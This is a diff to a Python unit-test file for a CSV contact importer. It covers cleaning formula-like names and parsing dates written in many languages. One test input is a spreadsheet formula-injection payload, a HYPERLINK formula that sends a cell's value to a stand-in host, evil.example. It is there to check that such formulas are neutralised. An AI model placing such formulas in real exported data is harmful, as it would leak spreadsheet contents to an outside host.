@@ -24,10 +24,18 @@ from tests.unit.profiles.files import ANA, BO, names, read, reasons, table
 )
 def test_a_formula_is_never_stored(formula):
     report = read(table(f"{formula},Silva,,,,,", f"Bo,Li,,{formula},{formula},{formula},"))
-    assert reasons(report) == {2: "a name is a formula"}
-    (bo,) = report.records
+    silva, bo = report.records
+    assert silva.name.endswith("Silva")
+    assert silva.name[0] not in "=+-@\uff1d"
     assert (bo.email, bo.company, bo.position) == (None, None, None)
-    assert len(report.warnings) == 3
+    assert len(report.warnings) == 4
+
+
+def test_a_name_that_is_a_formula_is_cleaned_not_lost():
+    names_of = ['"=HYPERLINK(""http://evil.example/?x=""&A1,""Ana"")"', "=Ana", "+Ana", "=1+1"]
+    report = read(table(*(f"{first},Silva{place},,,,," for place, first in enumerate(names_of))))
+    assert names(report) == ["Ana Silva0", "Ana Silva1", "Ana Silva2", "Silva3"]
+    assert "line 2: the name was a formula and was cleaned" in report.warnings
 
 
 def test_a_sign_before_words_is_taken_off():
@@ -129,8 +137,17 @@ def test_two_people_of_one_name_with_links_of_their_own_are_two():
         '"05 Jan 2024, 10:33 AM"',
         "5-Jan-24",
         "05.01.2024",
-        "1/5/24",
-        "01/05/2024",
+        "12. Jan. 2024".replace("12", "5"),
+        "5 janv. 2024",
+        "5 de ene. de 2024",
+        "5 de janeiro de 2024",
+        "5 gen 2024",
+        "5 januari 2024",
+        "5 stycznia 2024",
+        "5 янв. 2024 \u0433.",
+        "2024年1月5日",
+        "2024년 1월 5일",
+        "2024. 1. 5.",
         '"Friday, January 5, 2024"',
     ],
 )
@@ -158,14 +175,16 @@ def test_the_other_dates_of_the_file_say_which_number_is_the_day(other, expected
     assert report.warnings == ()
 
 
-def test_where_no_date_says_the_month_comes_first_and_a_warning_says_so():
-    report = read(table("Ana,Silva,,,,,03/04/2024", "Bo,Li,,,,,03.04.2024"))
-    assert [record.connected_on for record in report.records] == [date(2024, 3, 4), date(2024, 4, 3)]
-    assert any("month/day" in warning for warning in report.warnings)
+@pytest.mark.parametrize(("others", "why"), [((), "no other date"), (("25/12/2023", "12/27/2023"), "both orders")])
+def test_where_the_column_does_not_say_which_number_is_the_day_it_is_not_guessed(others, why):
+    report = read(
+        table(*(f"P{at},X,,,,,{day}" for at, day in enumerate(("03/04/2024", "5/5/24", "3.4.2024", *others))))
+    )
+    days = [record.connected_on for record in report.records]
+    assert days[:3] == [None, date(2024, 5, 5), date(2024, 4, 3)]
+    assert all(days[3:])
+    assert any(why in warning for warning in report.warnings)
 
 
-def test_dates_of_both_kinds_are_read_as_most_are_with_a_warning():
-    days = ("03/04/2024", "25/12/2023", "26/12/2023", "12/27/2023")
-    report = read(table(*(f"P{number},X,,,,,{day}" for number, day in enumerate(days))))
-    assert report.records[0].connected_on == date(2024, 4, 3)
-    assert any("both" in warning for warning in report.warnings)
+def test_a_year_alone_is_its_first_day():
+    assert read(table("Ana,Silva,,,,,2020")).records[0].connected_on == date(2020, 1, 1)
